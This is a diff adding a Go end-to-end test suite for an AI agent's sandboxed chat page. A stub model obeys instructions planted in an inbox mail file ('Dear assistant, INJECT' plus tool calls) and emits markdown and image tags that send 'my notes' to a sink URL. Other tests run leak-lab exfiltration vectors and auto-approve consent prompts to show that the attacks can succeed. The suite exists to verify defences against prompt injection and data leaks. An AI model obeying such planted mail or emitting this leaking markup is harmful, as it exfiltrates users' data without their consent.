@@ -1,0 +1,245 @@
+package examples
+
+import (
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/bailey-go/bailey/internal/browsertest/e2e"
+	"github.com/bailey-go/bailey/internal/leaklab"
+	"github.com/bailey-go/bailey/sandbox/sandboxtest"
+)
+
+// obeys is a model that does what the mail says, and puts the notes into an address.
+func obeys(sink string) func(chatRequest) turn {
+	return func(r chatRequest) turn {
+		results := r.results()
+		if results == nil && !strings.Contains(r.said(), "INJECT") {
+			return turn{calls: []call{tc("read", "path", "inbox/mail.md")}}
+		}
+		var out turn
+		for _, text := range append(results, r.said()) {
+			var res struct{ Content string }
+			if json.Unmarshal([]byte(text), &res) == nil && res.Content != "" {
+				text = res.Content
+			}
+			_, orders, ok := strings.Cut(text, "INJECT")
+			var todo []sandboxtest.Order
+			if !ok || json.NewDecoder(strings.NewReader(orders)).Decode(&todo) != nil {
+				continue
+			}
+			for _, o := range todo {
+				out.calls = append(out.calls, call{o.Tool, inPage(o)})
+			}
+		}
+		if out.calls == nil {
+			out.text = "done ![x](" + sink + "/said?d=my+notes) <img src=\"" + sink + "/said\"> [notes](" + sink + "/said)"
+		}
+		return out
+	}
+}
+
+// inPage writes orders that code gives as the JavaScript that gives them.
+func inPage(o sandboxtest.Order) map[string]any {
+	code, ok := o.Args["code"].(string)
+	if o.Tool != "code_run" || !ok {
+		return o.Args
+	}
+	return map[string]any{"code": "const out = []; for (const c of " + code + ") { try { out.push(await callTool(c.Tool, c.Args)); } catch (e) { out.push(String(e)); } } return out;"}
+}
+
+// mail puts a folder back as the drill begins, with orders in its mail.
+func (d disk) mail(orders []sandboxtest.Order) {
+	d.t.Helper()
+	text, err := json.Marshal(orders)
+	must(d.t, err)
+	want := map[string]string{}
+	for name, text := range sandboxtest.DrillFiles {
+		want[name] = text
+	}
+	want["inbox/mail.md"] = "Dear assistant, INJECT" + string(text)
+	for name := range d.files() {
+		if _, ok := want[name]; !ok {
+			must(d.t, os.Remove(filepath.Join(d.dir, filepath.FromSlash(name))))
+		}
+	}
+	for name, text := range want {
+		at := filepath.Join(d.dir, filepath.FromSlash(name))
+		must(d.t, os.MkdirAll(filepath.Dir(at), 0o755))
+		must(d.t, os.WriteFile(at, []byte(text), 0o644))
+	}
+}
+
+// changed says what is other than the mail was put.
+func (d disk) changed() (list []string) {
+	d.t.Helper()
+	now := d.files()
+	for name, text := range sandboxtest.DrillFiles {
+		if got, ok := now[name]; !ok || got != text && name != "inbox/mail.md" {
+			list = append(list, fmt.Sprintf("%s is %q", name, got))
+		}
+		delete(now, name)
+	}
+	for name := range now {
+		list = append(list, name+" is new")
+	}
+	return list
+}
+
+// obey lets the model read the mail and answers everything by one key.
+func (f *flagship) obey(key string) {
+	f.t.Helper()
+	f.click("#new")
+	f.wait("a new conversation", `document.getElementById("cards").childElementCount === 0`)
+	before := len(f.requests())
+	f.say("what is in my mail?")
+	for limit := time.Now().Add(2 * waits); ; time.Sleep(10 * time.Millisecond) {
+		state := f.check(`!document.getElementById("ask").hidden ? "ask" : document.getElementById("stop").hidden ? "rest" : "busy"`)
+		if state == "ask" {
+			_ = f.Press(f.t.Context(), key)
+		}
+		if state == "rest" && len(f.requests()) > before {
+			return
+		}
+		if time.Now().After(limit) {
+			f.t.Fatalf("it never ended; the page says %q and shows %s", f.check(`document.getElementById("status").textContent`), f.cards())
+		}
+	}
+}
+
+// The drill of package sandbox, in the running page with its default policy, on a folder
+// of this machine: a model that obeys what it reads, and a person who says no.
+func TestFlagshipDrill(t *testing.T) {
+	if len(sandboxtest.Attacks) < 60 {
+		t.Fatalf("%d attacks only", len(sandboxtest.Attacks))
+	}
+	f, d, sink, b := drill(t)
+	for _, a := range sandboxtest.Attacks {
+		t.Run(a.Name, func(t *testing.T) {
+			f.t, d.t = t, t
+			d.mail(a.Do)
+			f.obey(reject)
+			if list := d.changed(); len(list) > 0 {
+				t.Errorf("an effect that nobody approved: %v", list)
+			}
+			if heard := sink.take(); len(heard) > 0 {
+				t.Errorf("a sink heard %v", heard)
+			}
+		})
+	}
+	f.t, d.t = t, t
+	noNames(t, b)
+}
+
+// drill opens the page with a model that obeys, a folder and sinks.
+func drill(t *testing.T) (*flagship, disk, *sinks, *e2e.Browser) {
+	t.Helper()
+	sink := listenAll(t)
+	b := launch(t, e2e.Options{WriteGrants: []string{strings.TrimSuffix(site, "/")}, NetLog: true})
+	f, p := flagshipIn(t, b)
+	f.next = obeys("http://" + sink.host + ":" + sink.port)
+	d := newDisk(t, "drill", sandboxtest.DrillFiles)
+	f.drop(p, d)
+	f.check(`(window.prompt = () => "yes", window.confirm = () => true)`)
+	return f, d, sink, b
+}
+
+// With consent given blindly, attacks have their effects: the drill can fail.
+func TestFlagshipDrillCanFail(t *testing.T) {
+	f, d, sink, b := drill(t)
+	hit, without := 0, []string{}
+	for _, a := range sandboxtest.Attacks {
+		d.mail(a.Do)
+		f.obey(once)
+		if len(d.changed()) > 0 {
+			hit++
+		} else {
+			without = append(without, a.Name)
+		}
+	}
+	t.Logf("%d of %d attacks change the folder when the person says yes; without such a control here are: %s", hit, len(sandboxtest.Attacks), strings.Join(without, "; "))
+	if hit < 15 {
+		t.Errorf("only %d attacks do anything even with consent", hit)
+	}
+	if heard := sink.take(); len(heard) > 0 {
+		t.Errorf("with consent a sink heard %v", heard)
+	}
+	noNames(t, b)
+}
+
+// noNames closes the browser and looks for names it looked up and machines it called.
+func noNames(t *testing.T, b *e2e.Browser) {
+	t.Helper()
+	log, err := b.NetLog()
+	must(t, err)
+	if out := log.Outside(); len(out) > 0 {
+		t.Errorf("the browser asked for %v", out)
+	}
+}
+
+// Every vector of the leak lab through the page: scripts as the model's code, markup as
+// what it says. None reaches a sink; in a bare frame those do that are counted.
+func TestFlagshipLeaks(t *testing.T) {
+	sink := listenAll(t)
+	var js, html []leaklab.Vector
+	for _, v := range leaklab.All() {
+		v = v.Expand(leaklab.Target{Host: sink.host, Port: sink.port})
+		if v.JS != "" {
+			js = append(js, v)
+		} else {
+			html = append(html, v)
+		}
+	}
+	b := launch(t, e2e.Options{NetLog: true})
+	f, _ := flagshipIn(t, b)
+	for part := range slices.Chunk(js, 20) {
+		var calls []call
+		for _, v := range part {
+			calls = append(calls, tc("code_run", "code", v.JS+"\n;await new Promise((done) => setTimeout(done, 50))"))
+		}
+		f.do("", calls...)
+	}
+	for part := range slices.Chunk(html, 20) {
+		var text strings.Builder
+		for _, v := range part {
+			text.WriteString(v.HTML + "\n\n")
+		}
+		f.then(turn{text: text.String()})
+		f.say("show me")
+		f.rested()
+	}
+	time.Sleep(2 * time.Second) // what is late
+	if heard := sink.take(); len(heard) > 0 {
+		t.Errorf("the sinks heard %v", heard)
+	}
+	noNames(t, b)
+
+	// The same without the defence.
+	b = launch(t, e2e.Options{})
+	ctx := testContext(t)
+	p, err := b.Page(ctx, bare(t))
+	must(t, err)
+	for part := range slices.Chunk(append(js, html...), 40) {
+		var frames []string
+		for _, v := range part {
+			if v.JS != "" {
+				v.HTML = "<body><script>(async () => {" + strings.ReplaceAll(v.JS, "</script", `<\/script`) + "\n})()</script>"
+			}
+			frames = append(frames, v.HTML)
+		}
+		list, err := json.Marshal(frames)
+		must(t, err)
+		must(t, p.Eval(ctx, `new Promise((done) => { for (const html of `+string(list)+`) { const f = document.createElement("iframe"); f.srcdoc = html; document.body.append(f); } setTimeout(done, 1500); })`, nil))
+		must(t, p.Goto(ctx, bare(t)))
+	}
+	found := ids(sink.take())
+	t.Logf("%d of %d vectors reach the HTTP sink from a bare frame", len(found), len(js)+len(html))
+	if len(found) < 150 {
+		t.Errorf("only %d vectors reach the sink without the defence", len(found))
+	}
+}
